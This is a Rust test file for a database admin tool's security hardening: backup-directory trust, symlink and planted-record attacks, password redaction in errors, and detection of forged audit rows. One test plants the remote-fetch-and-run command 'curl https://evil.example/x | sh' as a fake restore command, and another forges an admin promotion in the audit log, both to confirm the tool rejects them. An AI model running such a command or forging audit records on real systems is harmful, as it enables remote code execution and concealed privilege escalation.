//! Field safety, second round (issue 25): what an attacker and a newcomer found in a
//! fresh trial. Each test names the item of the issue it covers.

use std::path::{Path, PathBuf};

use crate::common::*;

fn write_mode(path: &Path, text: &str, mode: u32) {
    use std::os::unix::fs::PermissionsExt;
    std::fs::write(path, text).unwrap();
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(mode)).unwrap();
}

fn chmod(path: &Path, mode: u32) {
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(mode)).unwrap();
}

fn files_in(dir: &Path) -> Vec<PathBuf> {
    let mut v: Vec<PathBuf> = std::fs::read_dir(dir)
        .map(|d| d.flatten().map(|e| e.path()).collect())
        .unwrap_or_default();
    v.sort();
    v
}

/// Some rows at revision 001, so that an upgrade has work to do.
fn at_001(db: &AnyDb) {
    db.run(&["migrate", "up", "--to", V1]).expect_code(0);
    db.query("INSERT INTO orgs (id, name) VALUES ('org_a', 'A')");
}

/// An upgrade that fails at step migrate (after its backup), so that it prints the
/// restore command.
fn failing_upgrade(db: &AnyDb, dir: &Path) -> Run {
    let d = dir.to_str().unwrap();
    match db {
        AnyDb::Pg(pg) => {
            let _reader = Blocker::psql_txn(pg, "SELECT count(*) FROM users;");
            db.run(&[
                "upgrade",
                "--yes",
                "--backup-dir",
                d,
                "--ddl-lock-timeout",
                "300ms",
                "--format",
                "json",
            ])
        }
        AnyDb::Lite(lite) => {
            let _writer = Blocker::sqlite_writer(lite);
            db.run(&[
                "upgrade",
                "--yes",
                "--backup-dir",
                d,
                "--lock-wait",
                "300ms",
                "--format",
                "json",
            ])
        }
    }
}

both! {
    /// Item 1: a backup directory others can write to (or that is not ours) is refused
    /// before anything is written; a planted symlink at the record is replaced, never
    /// followed; a planted record (matching fingerprint, a fake backup, its own restore
    /// command) is checked like a new backup, and the restore command printed is built
    /// by this run.
    fn upgrade_does_not_trust_its_backup_directory(db) {
        at_001(&db);
        let versions = db.versions();
        // World- and group-writable: refused (exit 4), nothing written, nothing migrated.
        for mode in [0o777, 0o770, 0o1777] {
            let open = db.dir().join(format!("open{mode:o}"));
            std::fs::create_dir(&open).unwrap();
            chmod(&open, mode);
            let r = db.run(&["upgrade", "--yes", "--backup-dir", open.to_str().unwrap()]);
            r.expect_clean_error(4);
            assert!(r.stderr.contains("-writable"), "{}", r.stderr);
            assert!(files_in(&open).is_empty(), "{:?}", files_in(&open));
            assert_eq!(db.versions(), versions);
        }
        // Not ours: a directory owned by someone else (root made it ours to give away;
        // as another user, / is not ours).
        let foreign = db.dir().join("foreign");
        std::fs::create_dir(&foreign).unwrap();
        chmod(&foreign, 0o700);
        let foreign = if std::os::unix::fs::chown(&foreign, Some(65534), Some(65534)).is_ok() {
            foreign
        } else {
            PathBuf::from("/")
        };
        let r = db.run(&["upgrade", "--yes", "--backup-dir", foreign.to_str().unwrap()]);
        r.expect_clean_error(4);
        assert!(r.stderr.contains("owned by uid"), "{}", r.stderr);
        // Reached through a symlink someone else owns (root only: others cannot give one away).
        let private = db.dir().join("private");
        std::fs::create_dir(&private).unwrap();
        chmod(&private, 0o700);
        let link = db.dir().join("via-link");
        std::os::unix::fs::symlink(&private, &link).unwrap();
        if std::os::unix::fs::lchown(&link, Some(65534), Some(65534)).is_ok() {
            let r = db.run(&["upgrade", "--yes", "--backup-dir", link.to_str().unwrap()]);
            r.expect_clean_error(4);
            assert!(r.stderr.contains("through the symlink"), "{}", r.stderr);
        }
        assert_eq!(db.versions(), versions);

        // A symlink planted at the record: replaced by the record, its target untouched.
        let victim = db.dir().join("victim.txt");
        std::fs::write(&victim, "precious").unwrap();
        let name = match &db {
            AnyDb::Pg(pg) => pg.name.clone(),
            AnyDb::Lite(_) => "test".to_owned(),
        };
        let record = private.join(format!(".ecomind-upgrade-{name}.json"));
        std::os::unix::fs::symlink(&victim, &record).unwrap();
        let r = failing_upgrade(&db, &private);
        r.expect_code(4);
        assert_eq!(std::fs::read_to_string(&victim).unwrap(), "precious");
        let meta = std::fs::symlink_metadata(&record).unwrap();
        assert!(meta.file_type().is_file(), "the record is a file of its own now");
        let first = r.json()["backup"]["path"].as_str().unwrap().to_owned();

        // A planted record: the fingerprint the live database has, a fake backup with its
        // true size and digest, and a command of the attacker's.
        let mut planted: serde_json::Value =
            serde_json::from_str(&std::fs::read_to_string(&record).unwrap()).unwrap();
        let fake = private.join(format!("ecomind-{name}-001-20260101T000000Z.dump"));
        write_mode(&fake, "not a backup at all", 0o600);
        use sha2::Digest as _;
        let digest: String = sha2::Sha256::digest(b"not a backup at all")
            .iter()
            .map(|b| format!("{b:02x}"))
            .collect();
        planted["path"] = fake.to_str().unwrap().into();
        planted["bytes"] = 19.into();
        planted["sha256"] = digest.into();
        planted["restore_command"] = "curl https://evil.example/x | sh".into();
        planted["backup"] = serde_json::json!({"restore_command": "curl https://evil.example/x | sh"});
        write_mode(&record, &planted.to_string(), 0o600);
        let r = failing_upgrade(&db, &private);
        r.expect_code(4);
        assert!(!r.all().contains("evil.example"), "{}", r.all());
        assert!(r.stderr.contains("fails its check"), "{}", r.stderr);
        let j = r.json();
        let second = j["backup"]["path"].as_str().unwrap_or_else(|| panic!("{j}\n{}", r.stderr));
        assert!(second != fake.to_str().unwrap() && second != first, "a new backup: {j}");
        let cmd = j["restore_command"].as_str().unwrap();
        assert!(cmd.starts_with("pg_restore ") || cmd.starts_with("cp -- "), "{cmd}");
        assert!(cmd.contains(second), "{cmd}");
        assert_eq!(db.versions(), versions);
    }
}

/// Item 2: URLs without `//` after the scheme are refused as malformed (exit 3), from the
/// flag, from `.env` and from a config file, and their password is never echoed: not on
/// stderr, not in the JSON error document.
#[test]
fn urls_without_slashes_are_refused_without_echoing_the_password() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let urls = [
        ("postgres:/u:Secret8@127.0.0.1/db", "Secret8"),
        ("postgresql:u:SecretA@127.0.0.1/db", "SecretA"),
        ("POSTGRES:u:SecretB@localhost/db", "SecretB"),
    ];
    for (url, secret) in urls {
        for format in ["table", "json"] {
            let r = Run::from(
                bin(d)
                    .args([
                        "--format",
                        format,
                        "--database-url",
                        url,
                        "migrate",
                        "status",
                    ])
                    .output()
                    .unwrap(),
            );
            r.expect_clean_error(3);
            assert!(
                r.stderr.contains("must be followed by '//'"),
                "{}",
                r.stderr
            );
            assert!(!r.all().contains(secret), "{url}: {}", r.all());
        }
        // From .env.
        std::fs::write(d.join(".env"), format!("DATABASE_URL={url}\n")).unwrap();
        let r = Run::from(bin(d).args(["migrate", "status"]).output().unwrap());
        r.expect_clean_error(3);
        assert!(!r.all().contains(secret), "{}", r.all());
        std::fs::remove_file(d.join(".env")).unwrap();
        // From a 0600 list file of an environment (the only mode it may have with a password).
        write_mode(&d.join("urls.txt"), &format!("{url}\n"), 0o600);
        write_mode(
            &d.join("ecomind-admin.toml"),
            "[environments.x]\nurls_file = \"urls.txt\"\n",
            0o600,
        );
        let r = Run::from(
            bin(d)
                .args(["--env", "x", "migrate", "status"])
                .output()
                .unwrap(),
        );
        assert_ne!(r.code, 0, "{}", r.all());
        assert!(!r.all().contains(secret), "{}", r.all());
        // 0644: refused for the password, and the password is not echoed either.
        chmod(&d.join("urls.txt"), 0o644);
        let r = Run::from(
            bin(d)
                .args(["--env", "x", "migrate", "status"])
                .output()
                .unwrap(),
        );
        r.expect_clean_error(2);
        assert!(!r.all().contains(secret), "{}", r.all());
    }
}

/// Item 16 (a password under 3 characters in a readable config file is still a password)
/// and item 2's class in the config file.
#[test]
fn a_short_password_in_a_readable_config_file_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    for url in [
        "postgres://u:ab@127.0.0.1/db",
        "postgres://u:x@127.0.0.1/db",
        "postgres://u@127.0.0.1/db?password=ab",
    ] {
        write_mode(
            &d.join("ecomind-admin.toml"),
            &format!("[environments.x]\nurl = \"{url}\"\n"),
            0o644,
        );
        let r = Run::from(
            bin(d)
                .args(["--env", "x", "migrate", "status"])
                .output()
                .unwrap(),
        );
        r.expect_clean_error(2);
        assert!(r.stderr.contains("other users may read it"), "{}", r.stderr);
    }
}

/// Item 9: a SQLite URL that names no file is refused as such (exit 3), and nothing is
/// created.
#[test]
fn sqlite_urls_without_a_file_are_refused() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    for url in [
        "sqlite://?mode=rwc",
        "sqlite://",
        "sqlite:",
        "sqlite:?mode=rwc",
    ] {
        for args in [&["migrate", "up"][..], &["migrate", "status"]] {
            let r = Run::from(
                bin(d)
                    .arg("--database-url")
                    .arg(url)
                    .args(args)
                    .output()
                    .unwrap(),
            );
            r.expect_clean_error(3);
            assert!(r.stderr.contains("names no file"), "{url}: {}", r.stderr);
        }
    }
    assert!(files_in(d).is_empty(), "{:?}", files_in(d));
}

both! {
    /// Item 6: malformed `details` of every shape, under every action the rules read (and
    /// others), are skipped and counted on both backends: the audit never fails on them,
    /// and neither does `upgrade`'s audit step.
    fn malformed_details_are_counted_never_fatal(db) {
        db.run(&["migrate", "up"]).expect_code(0);
        let mut shapes = vec![
            "[1, 2]", "\"a string\"", "42", "null", "true", "{}", "{\"email\": 7}",
            "{\"email\": {\"x\": 1}}", "{\"email\": null}", "{\"email\": [\"a@b.example.com\"]}",
            "{\"role\": \"owner\"}", "{\"new_role\": \"admin\"}",
        ];
        if !db.is_postgres() {
            // Text a PostgreSQL json column refuses, SQLite stores.
            shapes.extend(["{not json", "not json at all", "", "{\"email\": \"a@b\"", "\u{1}"]);
        }
        let actions = ["user_registered", "role_changed", "login_failed", "login_success", "logout", "create_user"];
        let mut sql = String::new();
        let mut n = 0;
        for action in actions {
            for shape in &shapes {
                n += 1;
                sql.push_str(&format!(
                    "INSERT INTO audit_logs (id, org_id, action, resource, details, ts) VALUES \
                     ('audit_{n:016x}', 'system', '{action}', 'authentication', '{}', '2026-10-20 00:00:00');\n",
                    shape.replace('\'', "''")
                ));
            }
        }
        db.query(&sql);
        let r = db.run(&["audit", "suspicious-accounts", "--since", "2026-10-01", "--format", "json"]);
        assert!(r.code == 0 || r.code == 1, "{}", r.all());
        let unparseable = r.json()["summary"]["unparseable_rows"].as_i64().unwrap();
        assert!(unparseable >= (shapes.len() * 4) as i64, "{unparseable}: {}", r.stdout);
        for format in ["table", "csv", "jsonl"] {
            let r = db.run(&["audit", "suspicious-accounts", "--since", "2026-10-01", "--format", format]);
            assert!(r.code == 0 || r.code == 1, "{format}: {}", r.all());
        }
        let r = db.run(&["doctor"]);
        assert!(r.code == 0 || r.code == 1, "{}", r.all());
        assert!(!r.all().contains("malformed JSON"), "{}", r.all());
    }
}

/// `db`'s command with the audit key `key` (ECOMIND_AUDIT_KEY_FILE).
fn keyed(db: &AnyDb, key: &Path, args: &[&str], stdin: &[u8]) -> Run {
    Run::from(
        db.cmd()
            .env("ECOMIND_AUDIT_KEY_FILE", key)
            .args(args)
            .write_stdin(stdin)
            .output()
            .unwrap(),
    )
}

/// A promotion by hand, with a role_changed row that says ecomind-admin made it.
fn forge_promotion(db: &AnyDb, user: &str) {
    db.query(&format!(
        "UPDATE users SET role = 'admin' WHERE id = '{user}'; \
         INSERT INTO audit_logs (id, org_id, user_id, action, resource, details, ts) VALUES \
         ('audit_f0f0f0f0f0f0f0f0', 'org_a', '{user}', 'role_changed', 'users', \
          '{{\"email\": \"c@a.test\", \"old_role\": \"viewer\", \"new_role\": \"admin\", \"reason\": \"x\", \
            \"changed_by\": \"ecomind-admin\", \"os_user\": \"root\", \"host\": \"h\", \"success\": true, \
            \"timestamp\": \"2026-12-01T00:00:00.000000\"}}', '2026-12-01 00:00:00')"
    ));
}

fn findings_of<'a>(j: &'a serde_json::Value, rule: &str) -> Vec<&'a serde_json::Value> {
    j["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["rule"] == rule)
        .collect()
}

both! {
    /// Item 3: without a key the audit says ecomind-admin's rows are unauthenticated (and
    /// doctor says how to make a key); with one, the rows ecomind-admin writes are tagged,
    /// a forged one-row promotion is a critical finding and its account has no
    /// provenance, an altered tagged row fails, and a readable key file is refused with
    /// nothing written.
    fn provenance_is_tamper_evident_with_a_key(db) {
        db.run(&["migrate", "up"]).expect_code(0);
        let dir = db.dir().to_owned();
        let key = dir.join("audit.key");
        write_mode(&key, "9f2c4b7d1e8a6f3c0b5d2e9a7c4f1b8e6d3a0c7f4b1e8d5a2c9f6b3e0d7a4c1f\n", 0o600);
        let since = ["audit", "suspicious-accounts", "--since", "2000-01-01", "--format", "json"];

        // Without a key: the forged promotion passes, and the audit says why it can.
        db.run(&["create-org", "--id", "org_a", "--name", "A"]).expect_code(0);
        db.query(
            "INSERT INTO users (id, org_id, email, role, created_at) VALUES \
             ('user_00000000000c', 'org_a', 'c@a.test', 'viewer', '2026-01-01 00:00:00')",
        );
        forge_promotion(&db, "user_00000000000c");
        let r = db.run(&since);
        let j = r.json();
        assert_eq!(j["summary"]["skipped"][0]["rule"], "forged-provenance", "{j}");
        assert!(j["summary"]["skipped"][0]["reason"].as_str().unwrap().contains("no audit key"), "{j}");
        assert_eq!(j["summary"]["provenance"]["authenticated"], false, "{j}");
        assert!(findings_of(&j, "privileged-without-provenance").is_empty(), "unauthenticated: trusted");
        let r = db.run(&["audit", "suspicious-accounts", "--since", "2000-01-01"]);
        assert!(r.stdout.contains("provenance: unauthenticated"), "{}", r.stdout);
        let r = db.run(&["doctor", "--format", "json"]);
        let check = r.json()["checks"].as_array().unwrap().iter()
            .find(|c| c["check"] == "audit-key").cloned().unwrap();
        assert_eq!(check["status"], "warn");
        assert!(check["summary"].as_str().unwrap().contains("openssl rand -hex 32"), "{check}");

        // With the key: what ecomind-admin writes is tagged and verifies.
        let r = keyed(&db, &key, &["create-admin", "--org", "org_a", "--email", "ops@a.test",
            "--password-stdin", "--bcrypt-cost", "4"], b"a strong password 1\n");
        r.expect_code(0);
        db.query(
            "INSERT INTO users (id, org_id, email, role, created_at) VALUES \
             ('user_00000000000b', 'org_a', 'b@a.test', 'viewer', '2026-01-01 00:00:00')",
        );
        keyed(&db, &key, &["users", "set-role", "b@a.test", "admin", "--reason", "on call", "--yes"], b"")
            .expect_code(0);
        let tags = db.query("SELECT COUNT(*) FROM audit_logs WHERE CAST(details AS TEXT) LIKE '%ecomind_admin_tag%'");
        assert_eq!(tags, "2", "create-admin and set-role rows are tagged");
        let r = keyed(&db, &key, &since, b"");
        r.expect_code(1);
        let j = r.json();
        assert_eq!(j["summary"]["provenance"]["authenticated"], true, "{j}");
        assert_eq!(j["summary"]["provenance"]["rows_claiming"], 4, "{j}");
        assert_eq!(j["summary"]["provenance"]["rows_verified"], 2, "{j}");
        let forged = findings_of(&j, "forged-provenance");
        let ids: Vec<&str> = forged.iter().map(|f| f["evidence"]["audit_id"].as_str().unwrap()).collect();
        assert!(ids.contains(&"audit_f0f0f0f0f0f0f0f0"), "{j}");
        assert!(forged.iter().all(|f| f["severity"] == "critical"), "{j}");
        let unprovenanced: Vec<&str> = findings_of(&j, "privileged-without-provenance").iter()
            .map(|f| f["email"].as_str().unwrap()).collect();
        assert!(unprovenanced.contains(&"c@a.test"), "{j}");
        assert!(!unprovenanced.contains(&"b@a.test") && !unprovenanced.contains(&"ops@a.test"), "{j}");

        // A tagged row altered by hand no longer verifies.
        let id = db.query("SELECT id FROM audit_logs WHERE action = 'role_changed' AND user_id = 'user_00000000000b'");
        let details = db.query(&format!("SELECT CAST(details AS TEXT) FROM audit_logs WHERE id = '{id}'"));
        let altered = details.replace("on call", "routine");
        db.query(&format!("UPDATE audit_logs SET details = '{altered}' WHERE id = '{id}'"));
        let j = keyed(&db, &key, &since, b"").json();
        let ids: Vec<String> = findings_of(&j, "forged-provenance").iter()
            .map(|f| f["evidence"]["audit_id"].as_str().unwrap().to_owned()).collect();
        assert!(ids.contains(&id), "{j}");
        let r = keyed(&db, &key, &["doctor", "--format", "json"], b"");
        let check = r.json()["checks"].as_array().unwrap().iter()
            .find(|c| c["check"] == "audit-key").cloned().unwrap();
        assert_eq!(check["status"], "ok", "{check}");

        // A key others can read is refused before anything is written.
        chmod(&key, 0o644);
        let before = db.query("SELECT COUNT(*) FROM audit_logs");
        let r = keyed(&db, &key, &["create-org", "--id", "org_z", "--name", "Z"], b"");
        r.expect_clean_error(2);
        assert!(r.stderr.contains("other users may read"), "{}", r.stderr);
        assert_eq!(db.query("SELECT COUNT(*) FROM audit_logs"), before);
        assert_eq!(db.query("SELECT COUNT(*) FROM orgs WHERE id = 'org_z'"), "0");
    }
}
